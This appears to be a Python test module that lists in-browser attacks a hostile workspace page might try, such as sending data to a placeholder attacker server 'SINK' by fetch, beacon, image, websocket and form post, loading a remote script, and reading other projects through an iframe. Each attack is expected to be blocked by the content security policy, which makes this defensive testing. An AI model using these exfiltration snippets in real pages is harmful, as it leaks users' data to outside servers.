"""What a script in an open workspace's page tries in the person's browser: JavaScript that is true where it succeeded.

SINK is a server of the attacker's; whatever arrives there has succeeded as well, and so has any file or window.
"""

from __future__ import annotations

from tests.journeys.attacks.model import Attack

POLICY = "the edge's content security policy"
BROWSER = "the browser refuses it, and its reports could be forged by the page"


def _page(name: str, tries: str, act: str, stopped_by: str = POLICY) -> Attack:
    return Attack(name, tries, act, stopped_by, BROWSER)


SETTLED = ".then(() => true, () => false)"
ALL = (
    _page("popup", "another page of the enclave in a window of its own", "window.open('/hub/home') !== null"),
    _page(
        "download",
        "rows, saved as a file of the page's own making",
        """(() => { const a = document.createElement('a'); a.download = 'rows.csv';
        a.href = URL.createObjectURL(new Blob(['a,b'])); document.body.append(a); a.click(); return false; })()""",
    ),
    _page("fetch", "rows, sent to another site", f"fetch('SINK/fetch?rows', {{mode: 'no-cors'}}){SETTLED}"),
    _page("beacon", "the same by a beacon", "navigator.sendBeacon('SINK/beacon', 'rows') && false"),
    _page(
        "image",
        "the same in an image's address",
        "new Promise(done => { const i = new Image(); i.onload = () => done(true); i.onerror = () => done(false);"
        " i.src = 'SINK/image?rows'; })",
    ),
    _page(
        "socket",
        "the same by a websocket",
        "new Promise(done => { try { const s = new WebSocket('SINK/socket'.replace('http', 'ws'));"
        " s.onopen = () => done(true); s.onerror = () => done(false); } catch { done(false); } })",
    ),
    _page(
        "form",
        "the same by a form",
        """(() => { const f = document.createElement('form'); f.action = 'SINK/form'; f.method = 'post';
        f.target = 'here'; const i = document.createElement('iframe'); i.name = 'here'; document.body.append(i, f);
        f.submit(); return false; })()""",
    ),
    _page(
        "frame",
        "another project's pages, read through a frame",
        """new Promise(done => { const i = document.createElement('iframe'); i.src = '/hub/home';
        i.onload = () => { try { done(i.contentDocument.body.innerText.includes('autre-etude')); }
        catch { done(false); } }; document.body.append(i); setTimeout(() => done(false), 4000); })""",
        "pages of the hub are shown in no frame",
    ),
    _page(
        "script",
        "a script of another site, loaded",
        "new Promise(done => { const s = document.createElement('script'); s.src = 'SINK/script';"
        " s.onload = () => done(true); s.onerror = () => done(false); document.body.append(s); })",
    ),
)
